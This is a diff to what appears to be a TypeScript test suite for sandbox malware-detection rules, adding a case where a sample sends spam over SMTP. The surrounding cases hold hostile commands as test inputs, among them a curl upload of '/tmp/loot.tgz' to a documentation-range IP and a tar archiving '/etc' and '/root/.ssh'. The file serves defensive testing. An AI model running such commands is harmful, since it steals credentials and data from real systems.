@@ -14,6 +14,12 @@ const web = (s: Sim, name: string | null, port: number, first: string): void => 
   s.connect(1, address, port, -115);
   s.caught(address, port, first);
 };
+/** The sample (pid 1) connects to a mail server by name on port 25 and holds `dialogue` with the sandbox's. */
+const mail = (s: Sim, dialogue: string): void => {
+  const address = s.lookup('mx.example.test');
+  s.connect(1, address, 25, -115);
+  s.caughtMail(address, 25, dialogue);
+};
 const http = (method: string, path: string, host: string, body = ''): string =>
   `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: Mozilla/5.0\r\n${body ? `Content-Length: ${body.length}\r\n` : ''}\r\n${body}`;
 
@@ -157,6 +163,8 @@ export const CASES: RuleCase[] = [
   { id: 'ST-C2-014', trigger: (s) => web(s, null, 80, http('GET', '/x.sh', '203.0.113.7')), benign: (s) => web(s, 'www.example.test', 80, http('GET', '/x.sh', 'www.example.test')) },
   { id: 'ST-C2-015', trigger: (s) => web(s, 'api.telegram.org', 80, http('POST', '/bot123:AAE/sendMessage', 'api.telegram.org', 'chat_id=1&text=devbox')),
     benign: (s) => web(s, 'telegram.org.example.test', 80, http('GET', '/api/status', 'telegram.org.example.test')) },
+  { id: 'ST-C2-016', trigger: (s) => mail(s, 'EHLO bot\r\nMAIL FROM:<promo@shop.example.test>\r\nRCPT TO:<victim@example.test>\r\nDATA\r\nSubject: You won\r\n\r\nclick\r\n.\r\n'),
+    benign: (s) => mail(s, 'EHLO bot\r\nQUIT\r\n') },
   { id: 'ST-EXF-001', trigger: (s) => s.run('/usr/bin/curl', ['curl', '-T', '/tmp/loot.tgz', 'http://203.0.113.9/up']), benign: (s) => s.run('/usr/bin/curl', ['curl', '-o', 'x', 'http://203.0.113.9/x']) },
   // collection and impact
   { id: 'ST-COL-001', trigger: (s) => s.run('/usr/bin/tar', ['tar', 'czf', '/tmp/l.tgz', '/etc', '/root/.ssh']), benign: (s) => s.run('/usr/bin/tar', ['tar', 'czf', 'out.tgz', 'data']) },
